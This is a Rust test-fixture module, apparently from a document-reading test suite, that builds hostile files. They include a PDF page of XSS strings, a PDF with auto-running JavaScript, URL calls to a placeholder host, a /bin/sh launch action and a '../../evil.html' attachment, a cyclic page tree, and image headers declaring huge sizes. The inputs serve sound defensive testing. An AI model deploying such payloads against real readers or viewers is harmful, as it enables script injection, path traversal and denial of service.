//! Documents made in malice: what they say or hold is meant to be run, fetched or unpacked by whoever opens them.

use super::Case;
use super::document::{Document, Expected, TruePage};
use super::fonts::Face;
use super::pdf::{Form, Object, Pdf};
use super::prose::Language;
use super::scans::{LIGHT, Scan, document_of, pdf_of, prose_sheet, scan, seed};
use super::sheet::{A5, Sheet, Style};

/// The documents of this kind.
pub const CASES: &[Case] = &[
    ("markup.pdf", markup),
    ("active.pdf", active),
    ("cyclic-tree.pdf", cyclic_tree),
    ("cropped-away.pdf", cropped_away),
    ("huge-declared.gif", || bomb("huge-declared.gif", gif_head())),
    ("huge-declared.bmp", || bomb("huge-declared.bmp", bmp_head())),
    ("huge-declared.webp", || bomb("huge-declared.webp", webp_head())),
];

/// Where everything in `active.pdf` wants to go. Nobody answers there.
const ELSEWHERE: &str = "http://elsewhere.invalid";
/// More than any scan has.
const SIDE: u32 = 60_000;

fn a_scan(file: &str) -> Scan {
    scan(&prose_sheet(A5, Language::English, 0, seed(file, 0)), LIGHT, seed(file, 0))
}

fn markup() -> Document {
    let file = "markup.pdf";
    let mut sheet = Sheet::new(A5);
    let style = Style::new(Face::Mono, 11.0);
    let lines = [
        "<img src=x onerror=alert(1)>",
        "<script>alert(document.domain)</script>",
        "</pre></div><iframe src=javascript:alert(2)>",
        "</w:t></w:p> ]]> <!-- & &amp; &lt; -->",
        "\"><svg onload=alert(3)> [link](javascript:alert(4))",
    ];
    for (i, line) in lines.iter().enumerate() {
        sheet.line(style, 30.0, 60.0 + 34.0 * i as f32, line);
    }
    let scans = vec![scan(&sheet, LIGHT, seed(file, 0))];
    document_of(file, "A page whose text is markup and scripts", scans)
}

/// A sound page in a PDF full of things that happen by themselves.
fn active() -> Document {
    let file = "active.pdf";
    let scan = a_scan(file);
    let mut pdf = pdf_of(std::slice::from_ref(&scan));
    let page = pdf.objects().len() - 1;
    let script = |code: &str| format!("<< /S /JavaScript /JS ({code}) >>");
    let alert = pdf.plain(script("app.alert\\(1\\); this.submitForm\\('http://elsewhere.invalid/js'\\);"));
    let attached = pdf.stream("/Type /EmbeddedFile /Subtype /text#2Fhtml", *b"<script>alert(1)</script>");
    let file_spec = pdf.plain(format!(
        "<< /Type /Filespec /F (../../evil.html) /UF (../../evil.html) /EF << /F {attached} 0 R >> >>"
    ));
    let link = pdf.plain(format!(
        "<< /Type /Annot /Subtype /Link /Rect [0 0 400 500] /A << /S /URI /URI ({ELSEWHERE}/link) >> \
         /AA << /PO {} /PV << /S /URI /URI ({ELSEWHERE}/visible) >> >> >>",
        script("app.launchURL\\('http://elsewhere.invalid/open'\\);")
    ));
    let image = pdf.plain(format!("<< /FS /URL /F ({ELSEWHERE}/image.jpg) >>"));
    let external = pdf.stream(
        &format!(
            "/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8 \
             /F {image} 0 R /FFilter /DCTDecode"
        ),
        Vec::new(),
    );
    let Object::Plain(old) = pdf.objects()[page - 1].clone() else { unreachable!("the page") };
    let actions = format!(
        " /Annots [{link} 0 R] /AA << /O << /S /Launch /F (/bin/sh) >> /C {alert} 0 R >> /Thumb {external} 0 R >>"
    );
    // The page's own dictionary ends last.
    let body = old.trim_end().strip_suffix(">>").unwrap_or_default();
    pdf.set(page, body.to_owned() + &actions);
    let root = pdf.root;
    let tree = 1;
    pdf.set(
        root,
        format!(
            "<< /Type /Catalog /Pages {tree} 0 R /OpenAction {alert} 0 R /AA << /WC {alert} 0 R >> \
             /Names << /JavaScript << /Names [(a) {alert} 0 R] >> /EmbeddedFiles << /Names [(evil) {file_spec} 0 R] >> >> \
             /URI << /Base ({ELSEWHERE}/) >> >>"
        ),
    );
    let description = "Scripts, links, a program to launch, an attachment and an image that lies elsewhere";
    Document::new(file, description, pdf.write(Form::Table), vec![scan.page])
}

/// A page tree that has itself among its children, and claims a million pages.
fn cyclic_tree() -> Document {
    let file = "cyclic-tree.pdf";
    let scan = a_scan(file);
    let mut pdf = pdf_of(std::slice::from_ref(&scan));
    let page = pdf.objects().len() - 1;
    pdf.set(1, format!("<< /Type /Pages /Count 1000000 /Kids [1 0 R {page} 0 R 1 0 R] /Parent 1 0 R >>"));
    let description = "The page tree is a child of itself and claims a million pages";
    Document::new(file, description, pdf.write(Form::Table), vec![scan.page])
}

/// A page of which nothing is left.
fn cropped_away() -> Document {
    let mut pdf = Pdf::default();
    let tree = pdf.reserve();
    let content = pdf.stream("", *b"0 0 100 100 re f");
    let page = pdf.plain(format!(
        "<< /Type /Page /Parent {tree} 0 R /MediaBox [0 0 300 300] /CropBox [400 400 600 600] /Contents {content} 0 R >>"
    ));
    pdf.finish(tree, &[page], "");
    let file = "cropped-away.pdf";
    let description = "What is to be shown of the page lies outside of it";
    Document::new(file, description, pdf.write(Form::Table), vec![TruePage::default()])
        .expecting(Expected::PagesFail { pages: vec![1] })
}

/// A few bytes that declare more pixels than there is memory.
fn bomb(file: &str, bytes: Vec<u8>) -> Document {
    let description = format!("A header that declares {SIDE} x {SIDE} pixels");
    Document::new(file, &description, bytes, Vec::new()).expecting(Expected::refused("too-large"))
}

fn gif_head() -> Vec<u8> {
    let side = (SIDE as u16).to_le_bytes();
    let frame = [b",\0\0\0\0".as_slice(), &side, &side, b"\0\x02\x02\x4c\x01\0;"].concat();
    [b"GIF89a".as_slice(), &side, &side, b"\x80\0\0\0\0\0\xff\xff\xff", &frame].concat()
}

fn bmp_head() -> Vec<u8> {
    let side = SIDE.to_le_bytes();
    let head =
        [40_u32.to_le_bytes(), side, side, [1, 0, 1, 0], [0; 4], [0; 4], [0; 4], [0; 4], [0; 4], [0; 4]];
    let palette = [[0_u8, 0, 0, 0], [255, 255, 255, 0]];
    [b"BM\x46\0\0\0\0\0\0\0\x3e\0\0\0".as_slice(), &head.concat(), &palette.concat(), &[0; 8]].concat()
}

fn webp_head() -> Vec<u8> {
    // 14 bits a side are the most that lossless WebP can declare; the canvas of an extended one has 24.
    let side = &(SIDE - 1).to_le_bytes()[..3];
    let extended = [b"VP8X\x0a\0\0\0\0\0\0\0".as_slice(), side, side].concat();
    let size = (extended.len() as u32 + 4).to_le_bytes();
    [b"RIFF".as_slice(), &size, b"WEBP", &extended].concat()
}
